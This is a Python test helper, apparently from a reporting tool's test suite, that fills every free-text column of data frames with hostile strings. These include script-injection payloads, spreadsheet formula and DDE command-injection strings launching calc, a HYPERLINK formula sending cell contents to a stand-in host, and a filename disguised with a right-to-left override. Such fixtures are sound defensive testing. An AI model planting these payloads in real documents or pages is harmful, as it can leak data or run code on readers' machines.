"""Texts that senders use to break tables, workbooks and pages."""

from __future__ import annotations

import pandas as pd

from tests.build.frames import frames

SCRIPT = '</script><script>document.title="owned"</script><img src=x onerror="document.title=\'owned\'">'
FORMULA = '=HYPERLINK("http://thu.example/"&A1,"bấm")'
TEXTS = (
    FORMULA,
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    SCRIPT,
    '" onmouseover="alert(1)',
    "{{ 7*7 }} {% raw %}",
    "a\x00b\x08c\x1b[31m\x85",
    "lẻ \ud83d nửa \udc00",
    "bao-cao\u202exslx.exe",
    "\ufffe\uffff\ufdd0",
    "http://thu.example/",
    "hai\r\ndòng",
    "<!--<script>",
    "x\u2028y\u2029z",
    "Ạ" * 40_000,
)


def hostile_frames(units: int = 20) -> dict[str, pd.DataFrame]:
    """Frames in which every free text is hostile, each kind at least once."""
    found = frames(units)
    for table, names in {
        "units": ("name", "report", "decided_by", "format"),
        "sections": ("heading", "file", "text", "title"),
        "findings": ("message", "file", "evidence", "check"),
        "indicators": ("title", "period", "unit_of_measure", "raw", "file"),
        "messages": ("sender", "subject", "message_id", "reason", "folder", "uid", "sent_at"),
        "files": ("name", "path", "media_type", "reason", "reader"),
    }.items():
        for shift, name in enumerate(names):
            texts = [TEXTS[(row + shift) % len(TEXTS)] for row in range(len(found[table]))]
            found[table][name] = pd.Series(texts, dtype="object")
    return found
